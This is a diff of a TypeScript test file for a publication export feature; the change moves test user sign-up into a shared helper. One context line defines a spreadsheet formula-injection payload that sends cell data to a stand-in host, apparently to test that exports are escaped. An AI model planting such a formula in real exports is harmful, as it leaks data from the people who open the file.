@@ -7,8 +7,8 @@ import type { Db } from '../../db/client.ts';
 import { auditLog, channelAccounts, publications } from '../../db/schema.ts';
 import { manualClock } from '../../lib/clock.ts';
 import { departmentTree } from '../../test/fixtures.ts';
-import { ADMIN_PASSWORD, type TestApp, call, createTestApp, login } from '../../test/test-app.ts';
-import { createUser } from '../users/user-repo.ts';
+import { signUpPeople } from '../../test/people.ts';
+import { type TestApp, call, createTestApp } from '../../test/test-app.ts';
 import { publishExportRoutes } from './routes.ts';
 import { canonicalTimeZone, formatInZone, instantOf } from './time-zone.ts';
 
@@ -23,7 +23,7 @@ const clock = manualClock(new Date('2026-06-01T08:00:00Z'));
 const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 let t: TestApp;
 let dept: Awaited<ReturnType<typeof departmentTree>>;
-const tokens: Record<string, string> = {};
+let tokens: Record<string, string>;
 const ids = { news1: 0, news2: 0, intl: 0 };
 let newsParents: number[] = [];
 let intlParent = 0;
@@ -102,22 +102,15 @@ beforeAll(async () => {
       ),
   });
   dept = await departmentTree(t.db);
-  const people: [string, number, string][] = [
-    ['lead', dept.news, 'dept_admin'],
-    ['writer', dept.news, 'editor'],
-    ['intl', dept.intl, 'dept_admin'],
-  ];
-  for (const [key, departmentId, role] of people) {
-    await createUser(t.db, {
-      account: `x_${key}`,
-      name: `Xena ${key}`,
-      password: PASSWORD,
-      departmentId,
-      roleCodes: [role],
-    });
-    tokens[key] = (await login(t.app, `x_${key}`, PASSWORD)).accessToken;
-  }
-  tokens['admin'] = (await login(t.app, 'admin', ADMIN_PASSWORD)).accessToken;
+  ({ tokens } = await signUpPeople(
+    t,
+    [
+      ['lead', dept.news, 'dept_admin'],
+      ['writer', dept.news, 'editor'],
+      ['intl', dept.intl, 'dept_admin'],
+    ],
+    { prefix: 'x', name: 'Xena', password: PASSWORD },
+  ));
   ids.news1 = await account('News wire', dept.news);
   ids.news2 = await account('News night', dept.news);
   ids.intl = await account('Intl desk', dept.intl);
